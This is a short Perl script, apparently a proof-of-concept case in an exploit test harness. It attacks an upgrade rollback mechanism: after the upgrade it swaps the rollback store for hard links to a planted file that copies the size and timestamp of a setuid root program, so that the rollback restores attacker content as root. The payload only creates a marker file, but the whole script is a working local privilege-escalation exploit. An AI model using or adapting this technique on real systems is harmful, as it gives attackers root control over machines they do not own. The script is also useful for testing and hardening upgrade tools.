# Owns the top of a mount. Exchanges the rollback data there for files of its own with the size and the time of a setuid program of root.
use strict;
use warnings;
use Attack;

my ($top, $program) = ('/opt/phoned', '/opt/phoned/dial');
my $store = "$top/.xivo-upgrade-rollback";
my ($size, $time) = (stat $program)[7, 9];
ready();
wait_for { upgraded() };
if (-d $store) {
    rename $store, "$store.old" or die "$store: $!\n";
    directory("$store/files");
    my $payload = '#!/bin/touch /root/owned';
    write_file("$top/own", $payload . "\n" x ($size - length $payload));
    chmod 0755, "$top/own";
    utime $time, $time, "$top/own";
    # The number of the file is not known.
    for my $number (0 .. 60_000) {
        link "$top/own", "$store/files/$number" or die "$store/files/$number: $!\n";
    }
}
tried();
